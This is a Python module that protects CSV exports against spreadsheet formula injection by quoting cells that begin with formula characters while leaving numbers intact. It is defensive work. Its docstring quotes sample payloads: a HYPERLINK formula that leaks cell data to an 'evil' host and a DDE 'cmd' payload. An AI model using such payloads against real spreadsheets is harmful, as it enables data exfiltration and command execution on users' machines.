"""CSV exports that a spreadsheet opens safely: the one way every CSV the admin UI (or the API) serves is
written.

A spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell that starts with `=`, `+`, `-` or `@` as a
formula (`=HYPERLINK("http://evil/?"&A1,"click")`, `=cmd|' /C calc'!A0`); a leading tab or carriage
return is trimmed by some of them first. Exported text comes from DMO files and from users (an ignore
reason, a source id), so following OWASP's "CSV injection" advice every such text cell gets a leading `'`,
which the spreadsheet shows as plain text (the quote itself shows in a text editor).

What is left alone:
- values that are not text (int, float, Decimal, None, booleans): a number written by the program cannot
  carry a formula, and -73.5 stays a number;
- text that is exactly a number (`-73.5`, `+1`, `-2e5`): a spreadsheet reads it as that number, nothing
  else, so a longitude or an amount exported as text stays usable. `-2+3+cmd|...` or `+1 514-555-0101` is
  no number and is prefixed.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator
from typing import Any

__all__ = ["FORMULA_STARTS", "CsvLines", "csv_lines", "safe_cell", "safe_row"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """`value` as it may go into a CSV cell: text a spreadsheet would run as a formula gets a leading `'`
    (also when blanks precede the formula sign); numbers and numeric text are returned unchanged."""
    if not isinstance(value, str) or not value:
        return value
    stripped = value.lstrip(" \t\r\n")
    if not (value.startswith(FORMULA_STARTS) or stripped.startswith(FORMULA_STARTS)):
        return value
    if value == stripped and _NUMBER.fullmatch(value):
        return value
    return "'" + value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """Every cell of a row through `safe_cell`."""
    return [safe_cell(v) for v in values]


class CsvLines:
    """Turns rows into CSV text lines, one at a time (for streamed responses), every cell through
    `safe_cell`."""

    def __init__(self, **fmtparams: Any) -> None:
        self._buf = io.StringIO()
        self._writer = csv.writer(self._buf, **fmtparams)

    def line(self, values: Iterable[Any]) -> str:
        self._buf.seek(0)
        self._buf.truncate()
        self._writer.writerow(safe_row(values))
        return self._buf.getvalue()


def csv_lines(rows: Iterable[Iterable[Any]], **fmtparams: Any) -> Iterator[str]:
    """Each row as one neutralised CSV line."""
    lines = CsvLines(**fmtparams)
    for row in rows:
        yield lines.line(row)
